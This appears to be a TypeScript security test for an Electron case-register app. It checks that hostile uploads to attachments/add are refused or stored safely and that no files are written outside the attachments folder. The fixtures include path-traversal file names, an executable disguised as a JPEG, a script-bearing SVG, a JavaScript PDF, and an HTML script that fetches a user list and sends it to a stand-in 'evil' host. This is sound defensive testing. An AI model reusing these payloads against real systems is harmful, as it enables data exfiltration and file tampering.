import fs from 'node:fs';
import path from 'node:path';
import { openCore } from '../../electron/core/core';
import { ATTACHMENT_MAX_FILE_BYTES } from '../../electron/core/domain/attachments';
import type { CoreSession } from '../../electron/core/session';
import { phoneComplaint } from '../../electron/core/testing';
import { makeRegister, tempDir } from './fixture';

/**
 * Hostile attachments through attachments/add (core.call as a clerk, as every adapter calls it), into a data
 * folder inside a watched parent folder. Each file must be refused (an error with a Chinese message, no
 * attachment row, no history row) or stored safely (content-addressed under attachments/ab/<sha256>.bin, its
 * name cleaned of any path, an active PDF marked download-only, attachments/file handing back the same bytes
 * under a name with no path in it). Afterwards nothing was written outside attachments/: the parent folder's
 * and the data folder's trees (the register's own files aside) are as they were, and attachments/ holds
 * only <2 hex>/<64 hex>.bin files.
 */
export interface HostileCase { name: string; file: string; bytes: Buffer; expect: 'refused' | 'stored' | 'either' }

const JPEG = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00]), Buffer.alloc(200, 7), Buffer.from([0xff, 0xd9])]);
const EXE = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(58), Buffer.from([0x80, 0, 0, 0]), Buffer.alloc(64), Buffer.from('PE\0\0'), Buffer.alloc(200)]);
const HTML = Buffer.from('<!DOCTYPE html><html><body><script>fetch("/api/users/list").then(r=>r.text()).then(t=>location="http://evil/?"+t)</script></body></html>');
const PDF_JS = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n3 0 obj << /S /JavaScript /JS (app.alert("x")) >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>');

export function hostileCases(overLimit: boolean): HostileCase[] {
  const list: HostileCase[] = [
    { name: 'Windows path traversal, a program', file: '..\\..\\x.exe', bytes: EXE, expect: 'refused' },
    { name: 'Windows path traversal, a real JPEG', file: '..\\..\\x.jpg', bytes: JPEG, expect: 'stored' },
    { name: 'POSIX path traversal, a real JPEG', file: '../../../x.jpg', bytes: Buffer.concat([JPEG, Buffer.from('a')]), expect: 'stored' },
    { name: 'absolute path name', file: '/etc/cron.d/x.jpg', bytes: Buffer.concat([JPEG, Buffer.from('b')]), expect: 'stored' },
    { name: 'a program renamed .jpg', file: 'photo.jpg', bytes: EXE, expect: 'refused' },
    { name: 'HTML renamed .jpg', file: '照片.jpg', bytes: HTML, expect: 'refused' },
    { name: 'SVG with script renamed .png', file: 'scan.png', bytes: SVG, expect: 'refused' },
    { name: '0-byte file', file: 'empty.pdf', bytes: Buffer.alloc(0), expect: 'refused' },
    { name: 'PDF with JavaScript', file: '材料.pdf', bytes: PDF_JS, expect: 'stored' },
    { name: 'NUL and control characters in the name', file: 'a\u0000b\u0007.jpg', bytes: Buffer.concat([JPEG, Buffer.from('c')]), expect: 'either' },
    { name: 'a name of 201 characters', file: `${'长'.repeat(197)}.jpg`, bytes: Buffer.concat([JPEG, Buffer.from('d')]), expect: 'refused' },
    { name: 'a JPEG named .exe', file: 'x.exe', bytes: Buffer.concat([JPEG, Buffer.from('e')]), expect: 'either' },
  ];
  if (overLimit) list.push({ name: 'one byte over the 50 MB limit', file: 'big.pdf', bytes: Buffer.concat([PDF_JS, Buffer.alloc(ATTACHMENT_MAX_FILE_BYTES + 1 - PDF_JS.length, 0x20)]), expect: 'refused' });
  return list;
}

export interface AttachmentFigures {
  files: number;
  refused: number;
  storedSafely: number;
  unsafe: number;
  refusalsWithoutChineseMessage: number;
  refusalsThatWrote: number;
  writtenOutsideAttachments: number;
  strayInAttachments: number;
  results: Array<{ name: string; outcome: string }>;
  seconds: number;
  problems: string[];
}

/** Every file under `root` with its size, except those `skip` says. */
function tree(root: string, skip: (rel: string) => boolean): Map<string, number> {
  const out = new Map<string, number>();
  const walk = (dir: string) => {
    for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
      const full = path.join(dir, e.name);
      const rel = path.relative(root, full);
      if (skip(rel)) continue;
      if (e.isDirectory()) walk(full);
      else out.set(rel, fs.statSync(full).size);
    }
  };
  walk(root);
  return out;
}

const REGISTER_FILES = /^register\.(sqlite(-wal|-shm)?|lock)$/;

export async function runAttachments(opts: { overLimit?: boolean; log?: (l: string) => void } = {}): Promise<AttachmentFigures> {
  const t0 = performance.now();
  const outer = tempDir('attach');
  const dataDir = path.join(outer, 'a', 'b', 'data');
  await makeRegister(dataDir, 5, 21);
  const f: AttachmentFigures = { files: 0, refused: 0, storedSafely: 0, unsafe: 0, refusalsWithoutChineseMessage: 0, refusalsThatWrote: 0, writtenOutsideAttachments: 0, strayInAttachments: 0, results: [], seconds: 0, problems: [] };
  const problem = (p: string) => {
    if (f.problems.length < 20) f.problems.push(p);
    opts.log?.(`  PROBLEM ${p}`);
  };
  const core = await openCore(dataDir, { log: () => {} });
  try {
    const clerk = await core.db.selectFrom('users').select('id').where('role', '=', 'clerk').where('active', '=', 1).orderBy('id').executeTakeFirstOrThrow();
    const session: CoreSession = { userId: clerk.id };
    const registered = await core.call('cases/register', phoneComplaint({ receivedAt: '2026-11-02 09:30' }), session);
    if (!registered.ok) throw new Error(`could not register the case: ${registered.error.message}`);
    const caseId = registered.value.id;
    const before = tree(outer, (rel) => rel.startsWith(path.join('a', 'b', 'data', 'attachments')) || REGISTER_FILES.test(path.basename(rel)) && path.dirname(rel) === path.join('a', 'b', 'data'));
    const count = async () => ({
      attachments: Number((await core.db.selectFrom('attachments').select((eb) => eb.fn.countAll().as('n')).executeTakeFirstOrThrow()).n),
      history: Number((await core.db.selectFrom('history').select((eb) => eb.fn.countAll().as('n')).executeTakeFirstOrThrow()).n),
    });
    for (const c of hostileCases(opts.overLimit ?? true)) {
      f.files++;
      const was = await count();
      const r = await core.call('attachments/add', { caseId, name: c.file, content: c.bytes.toString('base64') }, session);
      const now = await count();
      let outcome: string;
      if (!r.ok) {
        f.refused++;
        outcome = `refused: ${r.error.code} ${r.error.message}`;
        if (!/[\u4e00-\u9fff]/.test(r.error.message)) (f.refusalsWithoutChineseMessage++, problem(`${c.name}: refused without a Chinese message: ${r.error.message}`));
        if (now.attachments !== was.attachments || now.history !== was.history) (f.refusalsThatWrote++, problem(`${c.name}: refused but wrote (${JSON.stringify({ was, now })})`));
        if (c.expect === 'stored') (f.unsafe++, problem(`${c.name}: refused, expected stored: ${r.error.message}`));
      } else {
        const a = r.value;
        const blob = path.join(dataDir, 'attachments', a.sha256.slice(0, 2), `${a.sha256}.bin`);
        const back = await core.call('attachments/file', { id: a.id }, session);
        const safeName = !/[\\/\u0000-\u001f]/.test(a.name) && !a.name.includes('..') && (back.ok ? !/[\\/\u0000-\u001f]/.test(back.value.name) : false);
        const sameBytes = back.ok && Buffer.from(back.value.bytes).equals(c.bytes);
        const onDisk = fs.existsSync(blob) && fs.readFileSync(blob).equals(c.bytes);
        const activeMarked = c.bytes === PDF_JS ? a.downloadOnly === true : true;
        const wrote = now.attachments === was.attachments + 1;
        const safe = safeName && sameBytes && onDisk && activeMarked && wrote && c.expect !== 'refused';
        outcome = `stored as 「${a.name}」 (${a.kind}, ${a.mimeType}${a.downloadOnly ? ', download only' : ''})`;
        if (safe) f.storedSafely++;
        else {
          f.unsafe++;
          problem(`${c.name}: stored ${c.expect === 'refused' ? 'but should have been refused' : 'unsafely'}: ${JSON.stringify({ safeName, sameBytes, onDisk, activeMarked, wrote, name: a.name })}`);
        }
      }
      f.results.push({ name: c.name, outcome });
      opts.log?.(`  ${c.name}: ${outcome}`);
    }
    const after = tree(outer, (rel) => rel.startsWith(path.join('a', 'b', 'data', 'attachments')) || REGISTER_FILES.test(path.basename(rel)) && path.dirname(rel) === path.join('a', 'b', 'data'));
    for (const [rel, size] of after) {
      if (before.get(rel) !== size) (f.writtenOutsideAttachments++, problem(`written outside attachments/: ${rel}`));
    }
    for (const rel of before.keys()) if (!after.has(rel)) (f.writtenOutsideAttachments++, problem(`removed outside attachments/: ${rel}`));
    const root = path.join(dataDir, 'attachments');
    for (const rel of fs.existsSync(root) ? tree(root, () => false).keys() : []) {
      if (!/^[0-9a-f]{2}[\\/][0-9a-f]{64}\.bin$/.test(rel)) (f.strayInAttachments++, problem(`attachments/ holds ${rel}`));
    }
  } finally {
    await core.close();
    fs.rmSync(outer, { recursive: true, force: true });
  }
  f.seconds = (performance.now() - t0) / 1000;
  return f;
}

export function attachmentsPassed(f: AttachmentFigures): boolean {
  return f.problems.length === 0 && f.refused + f.storedSafely === f.files && f.unsafe === 0 && f.writtenOutsideAttachments === 0 && f.strayInAttachments === 0;
}
